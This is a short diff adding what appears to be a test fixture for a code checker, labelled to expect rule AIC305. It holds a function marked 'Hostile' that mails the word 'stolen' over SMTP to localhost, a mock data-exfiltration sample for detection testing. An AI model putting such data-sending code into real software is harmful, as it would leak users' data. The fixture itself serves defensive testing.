@@ -1,0 +1,10 @@
+# expect: AIC305
+import smtplib
+
+
+def run() -> None:
+    """Hostile: sends mail.
+
+    >>> run()
+    """
+    smtplib.SMTP('127.0.0.1', 47613).sendmail('a@b', 'c@d', 'stolen')
